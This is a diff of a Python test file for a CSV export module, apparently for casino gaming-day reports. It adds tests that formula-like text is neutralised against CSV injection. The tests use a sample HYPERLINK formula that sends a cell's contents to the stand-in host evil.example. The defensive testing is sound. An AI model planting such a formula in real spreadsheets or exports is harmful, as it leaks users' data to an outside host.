@@ -4,6 +4,8 @@ the property's zone with their offset. Every figure worked by hand."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime
 
 import pytest
@@ -68,17 +70,68 @@ def test_cells_by_kind() -> None:
 
 
 def test_the_one_writer_puts_the_headers_with_units_then_each_rows_cells() -> None:
-    """Columns as (key, label, kind); a cell the row lacks is empty; text with a comma is
-    quoted by the csv module."""
+    """Columns as (key, label, kind); a cell the row lacks is empty; text is quoted (a
+    comma inside it too) and a number the code wrote is bare."""
     out = spreadsheet.write_csv(
         [("day", "Gaming day", "date"), ("drop_cents", "Drop", "money"),
-         ("at", "Counted at", "time"), ("status", "Status", "text")],
+         ("at", "Counted at", "time"), ("status", "Status", "text"),
+         ("hands", "Hands", "count")],
         [{"day": "2026-11-25", "drop_cents": -3500, "at": "2026-11-26T11:10:00+00:00",
-          "status": "counted, win preliminary"}, {"day": "2026-11-26"}],
+          "status": "counted, win preliminary", "hands": 12}, {"day": "2026-11-26"}],
         time_zone=NEW_YORK)
-    assert out == ("Gaming day,Drop ($),Counted at,Status\n"
-                   '2026-11-25,-35.00,2026-11-26T06:10:00-05:00,"counted, win preliminary"\n'
-                   "2026-11-26,,,\n")
+    assert out == ('"Gaming day","Drop ($)","Counted at","Status","Hands"\n'
+                   '"2026-11-25",-35.00,"2026-11-26T06:10:00-05:00",'
+                   '"counted, win preliminary",12\n'
+                   '"2026-11-26","","","",""\n')
+
+
+# --- formulas (OWASP's CSV injection rule, issue 35 item 4) ----------------------------
+
+#: a payload a person could type, after each of the six starts a spreadsheet runs
+PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.mark.parametrize("start", STARTS)
+def test_text_that_begins_like_a_formula_gets_a_single_quote(start: str) -> None:
+    assert spreadsheet.neutral(start + PAYLOAD) == "'" + start + PAYLOAD
+
+
+@pytest.mark.parametrize("text", ["counted", "", "2026-11-25", " =1+2", "a=b", "'=1"])
+def test_other_text_is_kept_as_it_is(text: str) -> None:
+    """Only the first character counts: a space first, or an ``=`` further on, is text
+    to every spreadsheet; a single quote already first is left alone."""
+    assert spreadsheet.neutral(text) == text
+
+
+@pytest.mark.parametrize("start", STARTS)
+def test_every_text_column_of_the_writer_is_neutral_and_quoted(start: str) -> None:
+    """Whatever the column's kind, a value the code did not write as a number is text:
+    a date, time, flag or text cell holding a person's words, a count holding words.
+    Parsed back, each cell begins with the quote; in the file each is quoted."""
+    value = start + PAYLOAD
+    columns = [("a", "Explanation", "text"), ("b", "Flag", "flag"), ("c", "Day", "date"),
+               ("d", "Hands", "count")]
+    out = spreadsheet.write_csv(columns, [dict.fromkeys("abcd", value)], time_zone=NEW_YORK)
+    row = list(csv.reader(io.StringIO(out)))[1]
+    assert row == ["'" + value] * 4
+    assert out.split("\n", 1)[1].startswith('"\'' + start)
+
+
+def test_a_negative_amount_stays_a_number() -> None:
+    """-35.00 dollars, -12.50 % and a count of -1 are figures the code made from numbers:
+    written bare (no quote marks, no single quote), which a spreadsheet reads as numbers;
+    the same characters as text are escaped."""
+    out = spreadsheet.write_csv(
+        [("w", "Win", "money"), ("h", "Hold", "percent"), ("n", "Change", "count"),
+         ("t", "Note", "text")],
+        [{"w": -3500, "h": -12.5, "n": -1, "t": "-35.00"}], time_zone=NEW_YORK)
+    assert out.splitlines()[1] == '-35.00,-12.50,-1,"\'-35.00"'
+
+
+def test_a_header_is_neutral_too() -> None:
+    out = spreadsheet.write_csv([("a", "=cmd", "text")], [], time_zone=NEW_YORK)
+    assert out == '"\'=cmd"\n'
 
 
 @pytest.mark.parametrize(("cents", "plain", "separated"), [
